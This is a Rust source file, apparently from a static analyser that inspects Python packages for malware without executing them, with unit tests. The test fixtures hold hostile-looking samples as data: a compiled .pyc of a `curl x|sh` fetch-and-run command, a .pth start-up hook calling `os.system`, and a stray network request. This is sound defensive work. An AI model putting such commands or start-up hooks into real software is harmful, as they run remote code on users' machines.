//! Static analysis of the files of a Python package: decode the source, parse it with error
//! recovery, resolve names, fold constants, peel encoded layers, and run the detectors of
//! [`rules`] in one walk. Nothing is ever executed.
//!
//! The entry points are [`analyze_python`] for one file and [`is_python_member`] to decide which
//! members are Python, and [`package_signals`] for the evidence only a whole package shows (its
//! name against popular projects, the modules it ships, compiled executables). Findings carry
//! `file:line` evidence; scoring lives in `wheelhound-scoring`.

pub mod bytecode;
pub mod context;
pub mod deadline;
pub mod decode;
pub mod eager;
pub mod encoders;
pub mod exports;
pub mod finding;
pub mod fold;
pub mod marshal;
pub mod metadata;
pub mod names;
pub mod package;
pub mod pickle;
pub mod resolve;
pub mod rules;
pub mod shape;
pub mod source;
pub mod text;
pub mod text_codec;
pub mod walker;

use std::time::Duration;

use ruff_python_ast::PySourceType;
use ruff_text_size::{TextRange, TextSize};

pub use context::FileRole;
pub use deadline::Deadline;
pub use finding::{Category, ExecContext, Finding, Rule};
pub use package::{PackageMember, package_signals};
pub use walker::{ArgSlot, Facts, PassedSource, SourceKind, SourceRef};

/// Compiles a constant regular expression once, on first use.
#[macro_export]
macro_rules! static_regex {
    ($pattern:expr) => {
        std::sync::LazyLock::new(|| {
            // Word boundaries are ASCII ones: a Unicode `\b` makes the regex engine fall back
            // from its DFA to the much slower PikeVM on any text holding a non-ASCII byte, and
            // the words the detectors look for (`curl`, `exec`, `select`) are ASCII anyway.
            let pattern = $crate::ascii_word_boundaries($pattern);
            // The pattern is a literal exercised by the detector tests, so it cannot fail for users.
            #[allow(clippy::expect_used)]
            regex::Regex::new(&pattern).expect("constant regex compiles")
        })
    };
}

/// `pattern` with every `\b` and `\B` made ASCII-only (`(?-u:\b)`); an escaped backslash
/// (`\\b`) is left alone.
#[doc(hidden)]
pub fn ascii_word_boundaries(pattern: &str) -> String {
    let mut out = String::with_capacity(pattern.len() + 16);
    let mut chars = pattern.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some(b @ ('b' | 'B')) => {
                out.push_str("(?-u:\\");
                out.push(b);
                out.push(')');
            }
            Some(other) => {
                out.push('\\');
                out.push(other);
            }
            None => out.push('\\'),
        }
    }
    out
}

/// Bounds of the analysis of one file. Hitting any of them adds a note to
/// [`FileAnalysis::errors`]; none of them is ever a crash.
#[derive(Clone, Debug)]
pub struct AnalysisOptions {
    /// Files larger than this are not parsed; only text checks run on them.
    pub max_parse_bytes: usize,
    /// How many decoded layers deep payloads are followed.
    pub max_layer_depth: u32,
    /// Total bytes of decoded layers analysed per file.
    pub max_layer_bytes: usize,
    /// Largest output of one decoding step (base64, zlib, ...); longer output is cut there.
    pub max_decode_bytes: usize,
    /// Deepest syntax nesting walked; deeper nodes are skipped.
    pub max_syntax_depth: u32,
    /// Wall-clock budget for one file, its decoded layers included. The walk stops when it is
    /// spent and keeps what it found; parsing itself is not interrupted (it is linear and
    /// bounded by `max_parse_bytes`).
    pub max_file_time: Duration,
}

impl Default for AnalysisOptions {
    fn default() -> Self {
        AnalysisOptions {
            max_parse_bytes: 16 << 20,
            max_layer_depth: 64,
            max_layer_bytes: 64 << 20,
            max_decode_bytes: decode::MAX_DECODED_BYTES,
            max_syntax_depth: walker::MAX_WALK_DEPTH,
            max_file_time: Duration::from_secs(10),
        }
    }
}

/// A decoded payload that was analysed as its own layer.
#[derive(Clone, Debug, serde::Serialize)]
pub struct LayerInfo {
    /// Display name, `path#layerN`.
    pub name: String,
    /// How it was produced.
    pub how: String,
    /// Line of the carrying file where it is decoded.
    pub line: u32,
}

/// Everything learned about one file.
#[derive(Debug)]
pub struct FileAnalysis {
    /// Path inside the package.
    pub path: String,
    /// Role of the file.
    pub role: FileRole,
    /// Evidence, including that of decoded layers.
    pub findings: Vec<Finding>,
    /// Sensitive data sources read.
    pub sources: Vec<SourceRef>,
    /// Facts for the purpose sentence.
    pub facts: Facts,
    /// Decoded layers analysed.
    pub layers: Vec<LayerInfo>,
    /// Findings of code left in comments ([`rules::commented_payload`]), with the tag
    /// `commented-out`: what the file would do if it were uncommented, never what it does.
    /// Kept apart so no detector, combination or cross-file check counts them as behaviour.
    pub commented_out: Vec<Finding>,
    /// Problems met (syntax errors, bounds).
    pub errors: Vec<String>,
    /// Number of syntax errors the parser recovered from.
    pub syntax_errors: usize,
    /// True when the time budget ran out, so the file was not fully analysed.
    pub time_budget_hit: bool,
    /// Number of lines.
    pub lines: usize,
    /// Size in bytes.
    pub bytes: usize,
}

/// True for a PyTorch checkpoint: a zip archive (`torch.save` since 1.6) or a pickle stream
/// (protocol 2 to 5 opens with `\x80` and its number).
fn is_torch_checkpoint(data: &[u8]) -> bool {
    data.starts_with(b"PK\x03\x04") || matches!(data, [0x80, 2..=5, ..])
}

/// Decides whether a member is analysed as Python: by name, by a Python shebang, as compiled
/// bytecode (`.pyc`/`.pyo` with a Python magic number), or, for a name without an extension,
/// by a first statement that imports (`pkg/version` run by `setup.py` as
/// `[sys.executable, 'pkg/version']`).
pub fn is_python_member(path: &str, data: &[u8]) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    // macOS tar writes each file's extended attributes to an AppleDouble `._name` beside it:
    // metadata, never code, whatever the name says.
    if data.starts_with(APPLE_DOUBLE_MAGIC) {
        return false;
    }
    if is_bytecode_name(&name) {
        return marshal::is_pyc(data);
    }
    // `.pth` is also PyTorch's checkpoint extension: a zip archive or a raw pickle of weights,
    // which `site` cannot read as lines and no interpreter runs at start-up.
    if name.ends_with(".pth") {
        return !is_torch_checkpoint(data);
    }
    if name.ends_with(".py") || name.ends_with(".pyw") || name.ends_with(".pyi") {
        return true;
    }
    let head = data.get(..128).unwrap_or(data);
    if head.starts_with(b"#!") {
        return memchr::memmem::find(head.split(|&b| b == b'\n').next().unwrap_or(&[]), b"python")
            .is_some();
    }
    let extensionless = !name.trim_start_matches('.').contains('.');
    extensionless && first_statement_imports(data)
}

/// True when the first line that is neither blank nor a comment, within the first 4 KiB, is
/// `import x` or `from x import y`: how Python files begin and other text rarely does.
fn first_statement_imports(data: &[u8]) -> bool {
    let head = data.get(..4_096).unwrap_or(data);
    let Some(line) = head
        .split(|&b| b == b'\n')
        .map(<[u8]>::trim_ascii)
        .find(|line| !line.is_empty() && !line.starts_with(b"#"))
    else {
        return false;
    };
    let is_name_start = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_');
    if let Some(rest) = line.strip_prefix(b"import ") {
        return is_name_start(rest.trim_ascii_start().first());
    }
    let Some(rest) = line.strip_prefix(b"from ") else {
        return false;
    };
    let module_end = rest
        .iter()
        .position(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.')))
        .unwrap_or(rest.len());
    module_end > 0
        && rest
            .get(module_end..)
            .is_some_and(|after| after.trim_ascii_start().starts_with(b"import "))
}

/// The first bytes of an AppleDouble file (RFC 1740).
const APPLE_DOUBLE_MAGIC: &[u8] = b"\x00\x05\x16\x07";

fn is_bytecode_name(name: &str) -> bool {
    name.ends_with(".pyc") || name.ends_with(".pyo")
}

/// The source file a `.pyc` was compiled from: `pkg/__pycache__/mod.cpython-311.pyc` and
/// `pkg/mod.pyc` are both `pkg/mod.py`. `None` for other paths.
pub fn bytecode_source_path(path: &str) -> Option<String> {
    let (dir, name) = match path.rsplit_once('/') {
        Some((dir, name)) => (Some(dir), name),
        None => (None, path),
    };
    if !is_bytecode_name(&name.to_ascii_lowercase()) {
        return None;
    }
    let stem = name.split('.').next().filter(|s| !s.is_empty())?;
    let dir = match dir {
        Some("__pycache__") => None,
        Some(dir) => Some(dir.strip_suffix("/__pycache__").unwrap_or(dir)),
        None => None,
    };
    Some(match dir {
        Some(dir) => format!("{dir}/{stem}.py"),
        None => format!("{stem}.py"),
    })
}

/// Adds the evidence of a `.pyc` shipped without the source it was compiled from (the caller
/// knows the package's other members): code only the interpreter reads.
pub fn note_bytecode_without_source(analysis: &mut FileAnalysis) {
    rules::obfuscation_layout::bytecode_without_source(analysis);
}

/// How another file of the package runs this one while loading.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct CallerContext {
    /// The whole module is imported by a file that runs in this context (setup.py → install).
    pub module_context: Option<ExecContext>,
    /// Functions of this module that another module calls while loading.
    pub functions: Vec<String>,
    /// The context those calls run in.
    pub functions_context: Option<ExecContext>,
    /// Test-runner plugin hooks the module defines (`pytest_configure`), when the package
    /// registers it as a plugin: every later test run in the environment calls them, so what
    /// they send of the machine's secrets weighs as if sent on import.
    pub plugin_hooks: Vec<String>,
    /// A file running in this context starts the module as a program (`python -m`).
    pub program_context: Option<ExecContext>,
    /// Import names of the package itself ([`context::import_name`] of its declared name): its
    /// own folder is never read as a test folder.
    pub own_modules: Vec<String>,
    /// Shipped (non-test) code of the package imports this file, so it is part of the shipped
    /// package whatever its folder or name says (`from .tests import helpers`).
    pub imported_by_shipped_code: bool,
    /// The package holds no code outside test, doc and example folders (setup.py aside), so
    /// what sits there is what it ships: a folder name cannot make a package's only code a test.
    pub nothing_shipped_outside_tests: bool,
    /// With [`CallerContext::nothing_shipped_outside_tests`]: some of that code is test code
    /// only by a maintainer folder's name (`src/ansys/tools/`). Then that code is the package,
    /// and the package's real tests, docs and examples stay what they are.
    pub code_in_maintainer_folders: bool,
    /// What this file imports from other modules of the package, by the module name it
    /// writes in `from … import` (`.cfg`, `pkg.b`): see [`exports`].
    pub imported: Vec<(String, exports::Exports)>,
    /// Texts of the package's non-Python files this file executes as code
    /// (`exec(open(os.path.join(here, 'settings.dat')).read())`), by file name: each is
    /// analysed as a layer of this file, where the exec runs.
    pub executed_files: Vec<(String, String)>,
    /// Sensitive data other modules pass to this module's functions while loading
    /// (`emit(title, context())` in `__init__.py`, `emit` defined here): those parameters
    /// carry it when the functions are walked.
    pub passed_in: Vec<walker::PassedSource>,
    /// Top-level module names of the package's own Python files (`pkg` for `pkg/a.py`,
    /// `helper` for a `helper.py` beside setup.py): imports of them are the package's code,
    /// never a third party's.
    pub package_modules: Vec<String>,
}

/// The role of the file at `path`, knowing the package's own module names and whether shipped
/// code imports it (then it is no test, whatever its folder says).
fn file_role(path: &str, caller: &CallerContext) -> FileRole {
    match FileRole::of_path_in(path, &caller.own_modules) {
        FileRole::TestOrDocs
            if caller.imported_by_shipped_code
                || caller.nothing_shipped_outside_tests
                    // A Rust or C package's only Python may be its Sphinx configuration;
                    // only a documentation build runs that file.
                    && !context::is_docs_configuration(path)
                    && (!caller.code_in_maintainer_folders
                        || FileRole::only_in_maintainer_folders(path, &caller.own_modules)) =>
        {
            if path.rsplit('/').next() == Some("__init__.py") {
                FileRole::PackageInit
            } else {
                FileRole::Module
            }
        }
        role => role,
    }
}

impl FileAnalysis {
    /// An analysis of `path` with nothing found yet.
    fn empty(path: &str, role: FileRole, bytes: usize) -> FileAnalysis {
        FileAnalysis {
            path: path.to_owned(),
            role,
            findings: Vec::new(),
            sources: Vec::new(),
            facts: Facts::default(),
            layers: Vec::new(),
            commented_out: Vec::new(),
            errors: Vec::new(),
            syntax_errors: 0,
            time_budget_hit: false,
            lines: 0,
            bytes,
        }
    }
}

/// Analyses one Python file (or `.pth` file). Never panics on any input; problems are recorded in
/// [`FileAnalysis::errors`].
pub fn analyze_python(path: &str, bytes: &[u8], options: &AnalysisOptions) -> FileAnalysis {
    analyze_python_called(path, bytes, options, &CallerContext::default())
}

/// Like [`analyze_python`], for a file that other files of the package run while loading.
pub fn analyze_python_called(
    path: &str,
    bytes: &[u8],
    options: &AnalysisOptions,
    caller: &CallerContext,
) -> FileAnalysis {
    // Started before the source is decoded, so the budget covers the whole file.
    let deadline = Deadline::after(options.max_file_time);
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    if is_bytecode_name(&name) && marshal::is_pyc(bytes) {
        return analyze_bytecode(path, bytes, options, caller, deadline);
    }
    let decoded = source::decode_source(bytes);
    let role = match file_role(path, caller) {
        // Sphinx runs a docs folder's `conf.py` while building the documentation, whatever the
        // folder is called (`Web/conf.py`); no install or import does.
        FileRole::Module
            if name == "conf.py"
                && !caller.imported_by_shipped_code
                && is_sphinx_configuration(&decoded.text) =>
        {
            FileRole::TestOrDocs
        }
        role => role,
    };
    let mut analysis = FileAnalysis::empty(path, role, bytes.len());
    // UTF-16 text is all NULs and letters as bytes; only what was read as bytes can be binary.
    let utf16 = decoded.encoding.is_some_and(|e| e.starts_with("UTF-16"));
    if !utf16
        && let Some(finding) =
            rules::obfuscation_layout::binary_disguised_as_source(&analysis, bytes)
    {
        // Still parsed: raw control characters are legal inside string literals, so a valid
        // module can carry its payload that way.
        analysis.findings.push(finding);
    }
    if decoded.lossy {
        analysis.errors.push(format!(
            "bytes invalid in {} were replaced before parsing",
            decoded.encoding.unwrap_or("UTF-8")
        ));
    }
    analyze_file_text(&mut analysis, &decoded.text, caller, options, deadline);
    analysis
}

/// Analyses `text` as the whole of the file `analysis` describes (a `.pth` file line by line,
/// anything else as a module), then notes a spent time budget.
fn analyze_file_text(
    analysis: &mut FileAnalysis,
    text: &str,
    caller: &CallerContext,
    options: &AnalysisOptions,
    deadline: Deadline,
) {
    let mut budget = LayerBudget {
        remaining_bytes: options.max_layer_bytes,
        next_index: 1,
        deadline,
    };
    let path = analysis.path.clone();
    let role = analysis.role;
    if role == FileRole::Pth {
        analyze_pth(analysis, text, options, &mut budget);
    } else {
        analyze_module(
            analysis,
            &path,
            text,
            role,
            None,
            Some(caller),
            options,
            0,
            &mut budget,
            &[],
            false,
        );
        analyze_commented_code(analysis, text, options, &mut budget);
    }
    if budget.deadline.has_passed() {
        analysis.time_budget_hit = true;
        analysis.errors.push(format!(
            "analysis of {path} stopped after {} s: time budget; findings so far are kept",
            budget.deadline.budget().as_secs_f64()
        ));
    }
}

/// Analyses the code left in `text`'s comments (see [`rules::commented_payload`]) like a file
/// of the same role, and keeps its findings apart in [`FileAnalysis::commented_out`].
fn analyze_commented_code(
    analysis: &mut FileAnalysis,
    text: &str,
    options: &AnalysisOptions,
    budget: &mut LayerBudget,
) {
    if text.len() > options.max_parse_bytes {
        return;
    }
    for block in rules::commented_payload::commented_code(text) {
        if budget.deadline.check() {
            break;
        }
        let mut scratch = FileAnalysis::empty(&analysis.path, analysis.role, block.text.len());
        let path = analysis.path.clone();
        analyze_module(
            &mut scratch,
            &path,
            &block.text,
            analysis.role,
            None,
            None,
            options,
            0,
            budget,
            &[],
            false,
        );
        let mut inner = scratch.findings;
        for finding in &mut inner {
            finding.tags.push(rules::commented_payload::COMMENTED_TAG);
        }
        if let Some(finding) = rules::commented_payload::block_finding(
            &analysis.path,
            &block,
            analysis.role.top_level_context(),
            &inner,
        ) {
            analysis.findings.push(finding);
            analysis.commented_out.extend(inner);
        }
    }
}

/// True when a module sets the variables Sphinx reads from a configuration file: its
/// `extensions` and at least one of its `html_*` options or `master_doc`/`root_doc`.
fn is_sphinx_configuration(text: &str) -> bool {
    let sets = |name: &str| {
        text.lines().take(20_000).any(|line| {
            line.strip_prefix(name)
                .is_some_and(|rest| rest.trim_start().starts_with('='))
        })
    };
    sets("extensions")
        && (sets("html_theme")
            || sets("html_static_path")
            || sets("master_doc")
            || sets("root_doc"))
}

/// A `.pyc`: its module code object, rendered as source, is analysed as the module it was
/// compiled from would be, with that module's role (`__init__`, setup.py, test, ...).
fn analyze_bytecode(
    path: &str,
    bytes: &[u8],
    options: &AnalysisOptions,
    caller: &CallerContext,
    deadline: Deadline,
) -> FileAnalysis {
    let source_path = bytecode_source_path(path).unwrap_or_else(|| path.to_owned());
    let role = file_role(&source_path, caller);
    let mut analysis = FileAnalysis::empty(path, role, bytes.len());
    let Some(text) = bytecode::unmarshal_to_source(bytes, true, options.max_decode_bytes) else {
        analysis
            .errors
            .push("compiled bytecode whose code object could not be read".to_owned());
        return analysis;
    };
    analyze_file_text(&mut analysis, &text, caller, options, deadline);
    // Rendered source parses imperfectly where the renderer guessed; those are not the file's
    // syntax errors.
    analysis.syntax_errors = 0;
    analysis.errors.retain(|e| !e.contains("syntax error"));
    analysis
}

struct LayerBudget {
    remaining_bytes: usize,
    next_index: u32,
    deadline: Deadline,
}

#[allow(clippy::too_many_arguments)]
fn analyze_module(
    analysis: &mut FileAnalysis,
    display_path: &str,
    text: &str,
    role: FileRole,
    layer_context: Option<ExecContext>,
    caller: Option<&CallerContext>,
    options: &AnalysisOptions,
    depth: u32,
    budget: &mut LayerBudget,
    inherited: &[(String, std::rc::Rc<resolve::Wrapper>)],
    plain_literal: bool,
) {
    let lines = source::LineIndex::new(text);
    if depth == 0 {
        analysis.lines = lines.len();
    }
    // Parsed before the walk starts, so the walk may keep references into the tree.
    let refused = if text.len() > options.max_parse_bytes {
        Some(format!(
            "{} bytes is above the {}-byte parse limit: only text checks ran",
            text.len(),
            options.max_parse_bytes
        ))
    } else {
        shape::unparsable_shape(text)
            .map(|why| format!("{why}, which CPython cannot run either: only text checks ran"))
    };
    let parsed = refused
        .is_none()
        .then(|| ruff_python_parser::parse_unchecked_source(text, PySourceType::Python));
    let mut checker = walker::Checker::new(display_path, text, &lines, role, layer_context);
    checker.inherit_wrappers(inherited);
    checker.set_plain_literal_layer(plain_literal);
    checker.bound(options, budget.deadline);
    if let Some(caller) = caller {
        if let Some(context) = caller.module_context {
            checker.imported_in(context);
        }
        if let Some(context) = caller.functions_context {
            checker.seed(caller.functions.clone(), context);
        }
        checker.declare_plugin_hooks(caller.plugin_hooks.clone());
        checker.receive_passed(caller.passed_in.clone());
        checker.know_package_modules(caller.package_modules.clone());
        if let Some(context) = caller.program_context {
            checker.run_as_program_in(context);
        }
        checker.import_values(caller.imported.clone());
        checker.provide_executed_texts(caller.executed_files.clone());
    }
    match &parsed {
        None => {
            rules::obfuscation_layout::check(&mut checker);
            checker.errors.extend(refused);
            scan_text_only(&mut checker);
        }
        Some(parsed) => {
            if depth == 0 {
                analysis.syntax_errors = parsed.errors().len();
            }
            // A decoded layer that does not parse was probably not code; only the file's own
            // syntax errors are worth a note.
            if let Some(first) = parsed.errors().first().filter(|_| depth == 0) {
                let (line, _) = checker.position(first.location);
                checker.errors.push(format!(
                    "{} syntax error(s), first at line {line}: {}; analysed the recovered tree",
                    parsed.errors().len(),
                    text::shorten(&first.error.to_string(), 120)
                ));
            }
            checker.run(&parsed.syntax().body);
        }
    }
    budget.deadline = checker.deadline();
    let layers = std::mem::take(&mut checker.layers);
    let walker::Checker {
        findings,
        sources,
        facts,
        errors,
        ..
    } = checker;
    // The syntax tree is dropped here, on this (large-stack) thread.
    drop(parsed);
    analysis.findings.extend(findings);
    analysis.sources.extend(sources);
    analysis.errors.extend(errors);
    if depth == 0 {
        analysis.facts = facts;
    }
    for layer in layers {
        if budget.deadline.check() {
            break;
        }
        if depth + 1 > options.max_layer_depth {
            analysis.errors.push(format!(
                "decoded layers nest deeper than {}; the rest was not analysed",
                options.max_layer_depth
            ));
            break;
        }
        if layer.text.len() > budget.remaining_bytes {
            analysis.errors.push(
                "decoded layers exceed the per-file byte budget; the rest was not analysed"
                    .to_owned(),
            );
            break;
        }
        budget.remaining_bytes -= layer.text.len();
        let name = format!("{}#layer{}", analysis.path, budget.next_index + 1);
        budget.next_index += 1;
        analysis.layers.push(LayerInfo {
            name: name.clone(),
            how: layer.how.clone(),
            line: layer.line,
        });
        analyze_module(
            analysis,
            &name,
            &layer.text,
            role,
            Some(layer.context),
            None,
            options,
            depth + 1,
            budget,
            &layer.wrappers,
            layer.how.starts_with("a string literal"),
        );
    }
}

/// `.pth` files are not Python modules: only lines starting with `import` run, each on its own.
fn analyze_pth(
    analysis: &mut FileAnalysis,
    text: &str,
    options: &AnalysisOptions,
    budget: &mut LayerBudget,
) {
    let lines = source::LineIndex::new(text);
    analysis.lines = lines.len();
    let executable = rules::pth_import::executable_lines(text);
    if executable.is_empty() {
        return;
    }
    let mut checker = walker::Checker::new(
        &analysis.path,
        text,
        &lines,
        FileRole::Pth,
        Some(ExecContext::Install),
    );
    checker.bound(options, budget.deadline);
    let mut offset = 0usize;
    let mut payload = String::new();
    for (number, line) in text.lines().enumerate() {
        if executable.iter().any(|(n, _)| *n as usize == number + 1) {
            let at = TextSize::new(u32::try_from(offset).unwrap_or(u32::MAX));
            checker.report(
                &rules::pth_import::RULE,
                TextRange::new(at, at),
                format!(
                    "executes `{}` at every Python start-up",
                    text::shorten(line, 120)
                ),
                0.15,
                vec!["pth-exec"],
            );
            payload.push_str(line);
        }
        // Keep line numbers of the payload equal to those of the .pth file.
        payload.push('\n');
        offset += line.len() + 1;
    }
    let walker::Checker {
        findings, errors, ..
    } = checker;
    analysis.findings.extend(findings);
    analysis.errors.extend(errors);
    let path = analysis.path.clone();
    analyze_module(
        analysis,
        &path,
        &payload,
        FileRole::Pth,
        Some(ExecContext::Install),
        None,
        options,
        1,
        budget,
        &[],
        false,
    );
}

/// For files too large to parse: endpoint checks over the raw text, line by line (in chunks of
/// 4 KiB), on the lines where an endpoint's needle occurs.
fn scan_text_only(checker: &mut walker::Checker) {
    let text = checker.text;
    let bytes = text.as_bytes();
    let mut next_line = 0usize;
    for at in rules::suspicious_endpoint::candidate_offsets(text) {
        if at < next_line {
            continue;
        }
        if checker.out_of_time() {
            break;
        }
        let (line_start, line_end) = source::line_around(bytes, at);
        // The line with its newline, as the chunks were cut before.
        let line_end = (line_end + 1).min(bytes.len());
        next_line = line_end;
        let line = text.get(line_start..line_end).unwrap_or("");
        for (start, chunk) in chunk_str(line, 4096) {
            if rules::suspicious_endpoint::classify(chunk).is_some() {
                let at = TextSize::new(u32::try_from(line_start + start).unwrap_or(u32::MAX));
                rules::suspicious_endpoint::check_string(checker, chunk, TextRange::new(at, at));
            }
        }
    }
}

fn chunk_str(text: &str, size: usize) -> impl Iterator<Item = (usize, &str)> {
    let mut start = 0usize;
    std::iter::from_fn(move || {
        if start >= text.len() {
            return None;
        }
        let mut end = (start + size).min(text.len());
        while !text.is_char_boundary(end) {
            end += 1;
        }
        let chunk = (start, text.get(start..end).unwrap_or(""));
        start = end;
        Some(chunk)
    })
}

#[cfg(test)]
mod bytecode_tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use super::*;

    /// A CPython 3.11 `.pyc` of `import os\nos.system("curl x|sh")`: magic 3495, 12 header bytes.
    fn pyc() -> Vec<u8> {
        let mut data = vec![0xa7, 0x0d, b'\r', b'\n'];
        data.extend([0u8; 12]);
        data.extend(
            decode::decode(decode::Codec::Hex, b"630000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a096375726c20787c73682902da026f73da0673797374656da900f300000000da0166fa083c6d6f64756c653e7207000000010000007326000000f003010101d80009800980098009d8000980028409882bd10016d40016d00016d00016d000167205000000").unwrap(),
        );
        data
    }

    #[test]
    fn apple_double_metadata_is_not_python() {
        let mut attributes = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        ".to_vec();
        attributes.resize(4_096, 0);
        assert!(!is_python_member("p-1/._setup.py", &attributes));
        assert!(is_python_member("p-1/setup.py", b"import os\n"));
    }

    #[test]
    fn pytorch_checkpoints_named_pth_are_not_startup_hooks() {
        assert!(!is_python_member(
            "p-1/models/alex.pth",
            b"\x80\x02\x8a\nl\xfc\x9cF"
        ));
        assert!(!is_python_member("p-1/models/net.pth", b"PK\x03\x04rest"));
        assert!(is_python_member(
            "p-1/evil.pth",
            b"import os; os.system('x')\n"
        ));
        assert!(is_python_member("p-1/paths.pth", b"./src\n"));
    }

    #[test]
    fn binary_data_named_as_source_is_a_disguised_payload() {
        let mut state = 0x2545_f491_u32;
        let encrypted: Vec<u8> = (0..8_192)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 17;
                state ^= state << 5;
                state.to_le_bytes()[0]
            })
            .collect();
        let options = AnalysisOptions::default();
        let shipped = analyze_python("p-1/p/utilities.py", &encrypted, &options);
        let finding = shipped
            .findings
            .iter()
            .find(|f| f.tags.contains(&"binary-as-source"))
            .expect("encrypted bytes under a .py name");
        assert!(finding.severity >= 0.7, "{finding:?}");
        // Text, even with accented Latin-1 letters or a UTF-16 encoding, is source.
        let latin1: Vec<u8> = b"# -*- coding: latin-1 -*-\nname = '"
            .iter()
            .copied()
            .chain(std::iter::repeat_n(0xe9, 2_000))
            .chain(b"'\n".iter().copied())
            .collect();
        let utf16: Vec<u8> = [0xff, 0xfe]
            .into_iter()
            .chain(
                "x = 1\n"
                    .repeat(200)
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes),
            )
            .collect();
        for text in [latin1, utf16] {
            let analysis = analyze_python("p-1/p/m.py", &text, &options);
            assert!(
                analysis
                    .findings
                    .iter()
                    .all(|f| !f.tags.contains(&"binary-as-source")),
                "{:?}",
                analysis.findings
            );
        }
    }

    #[test]
    fn extensionless_files_that_begin_by_importing_are_python() {
        assert!(is_python_member(
            "p-1/p/version",
            b"import requests,base64\nrequests.get('http://x/')\n"
        ));
        assert!(is_python_member(
            "p-1/SConstruct",
            b"# build\n\nfrom os.path import join\n"
        ));
        assert!(!is_python_member(
            "p-1/LICENSE",
            b"MIT License\n\nimport nothing\n"
        ));
        assert!(!is_python_member(
            "p-1/Makefile",
            b"all:\n\tpython -m build\n"
        ));
        assert!(!is_python_member("p-1/notes.txt", b"import os\n"));
        assert!(!is_python_member("p-1/x", b"from  import\n"));
        assert!(!is_python_member("p-1/x", b"important: read me\n"));
    }

    #[test]
    fn pyc_members_are_analysed_as_their_module() {
        let path = "pkg/__pycache__/__init__.cpython-311.pyc";
        assert!(is_python_member(path, &pyc()));
        assert!(!is_python_member("pkg/x.pyc", b"not bytecode"));
        let analysis = analyze_python(path, &pyc(), &AnalysisOptions::default());
        assert_eq!(analysis.role, FileRole::PackageInit);
        let spawn = analysis
            .findings
            .iter()
            .find(|f| f.rule == "WH120")
            .expect("os.system in the bytecode");
        assert_eq!((spawn.line, spawn.context), (2, ExecContext::Import));
        assert!(spawn.severity >= 0.85);
        let test = analyze_python(
            "pkg/tests/__pycache__/t.cpython-311.pyc",
            &pyc(),
            &AnalysisOptions::default(),
        );
        assert!(
            test.findings
                .iter()
                .all(|f| f.context == ExecContext::TestOrDocs)
        );
        // A truncated .pyc is an error note, never a crash.
        let cut = pyc();
        let cut = cut.get(..40).unwrap();
        let broken = analyze_python(path, cut, &AnalysisOptions::default());
        assert!(broken.findings.is_empty() && !broken.errors.is_empty());
    }

    #[test]
    fn bytecode_without_source_is_modest_evidence() {
        assert_eq!(
            bytecode_source_path("pkg/__pycache__/mod.cpython-311.pyc").as_deref(),
            Some("pkg/mod.py")
        );
        assert_eq!(
            bytecode_source_path("pkg/mod.pyc").as_deref(),
            Some("pkg/mod.py")
        );
        assert_eq!(
            bytecode_source_path("__pycache__/m.cpython-37.pyc").as_deref(),
            Some("m.py")
        );
        assert_eq!(bytecode_source_path("pkg/mod.py"), None);
        let mut analysis = analyze_python("pkg/mod.pyc", &pyc(), &AnalysisOptions::default());
        note_bytecode_without_source(&mut analysis);
        let note = analysis
            .findings
            .iter()
            .find(|f| f.has_tag("bytecode-only"))
            .unwrap();
        assert_eq!(note.rule, "WH190");
        assert!((0.2..=0.4).contains(&note.severity));
        let mut test = analyze_python("pkg/tests/x.pyc", &pyc(), &AnalysisOptions::default());
        note_bytecode_without_source(&mut test);
        assert!(
            test.findings
                .iter()
                .filter(|f| f.has_tag("bytecode-only"))
                .all(|f| f.severity < 0.1)
        );
    }
}

#[cfg(test)]
mod regex_tests {
    #![allow(clippy::unwrap_used, clippy::panic)]
    use super::ascii_word_boundaries;

    #[test]
    fn word_boundaries_become_ascii_and_escapes_stay() {
        assert_eq!(ascii_word_boundaries(r"\bcurl\b"), r"(?-u:\b)curl(?-u:\b)");
        assert_eq!(ascii_word_boundaries(r"a\Bb"), r"a(?-u:\B)b");
        assert_eq!(ascii_word_boundaries(r"\\b\d"), r"\\b\d");
        let re = regex::Regex::new(&ascii_word_boundaries(r"(?i)\bexec\b"))
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(re.is_match("é exec(x) ü"));
        assert!(!re.is_match("executor"));
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use super::*;

    #[test]
    fn a_sphinx_configuration_is_documentation_wherever_it_sits() {
        let sphinx = b"import subprocess\nsubprocess.check_output('jupyter nbconvert --execute x.ipynb', shell=True)\nextensions = ['sphinx.ext.autodoc']\nhtml_theme = 'alabaster'\n";
        let options = AnalysisOptions::default();
        let analysis = analyze_python("proj-1.0/Web/conf.py", sphinx, &options);
        assert_eq!(analysis.role, FileRole::TestOrDocs);
        // A package's settings module of the same name is code its users import.
        let settings = b"import os\nDEBUG = os.environ.get('DEBUG')\n";
        let analysis = analyze_python("proj-1.0/proj/conf.py", settings, &options);
        assert_eq!(analysis.role, FileRole::Module);
    }
}
